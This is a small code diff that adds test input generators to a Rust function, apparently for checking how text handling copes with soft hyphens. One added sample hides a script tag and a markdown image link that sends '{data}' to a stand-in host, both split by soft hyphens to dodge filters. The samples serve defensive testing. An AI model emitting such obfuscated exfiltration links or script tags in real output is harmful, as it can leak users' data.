@@ -41,6 +41,11 @@ fn generators() -> Vec<(&'static str, String)> {
         ),
         ("bidi overrides", fill("\u{202E}a\u{202C}")),
         ("emoji with selectors", fill("\u{2764}\u{FE0F}\u{200D}")),
+        ("soft hyphens in words", fill("ig\u{AD}nore ")),
+        (
+            "soft-hyphenated payloads",
+            fill("<scr\u{AD}ipt>![x](http://a.b/?q={da\u{AD}ta}) "),
+        ),
         ("one long word", fill("a")),
         ("words", fill("ignore ")),
         ("newlines", fill("\n")),
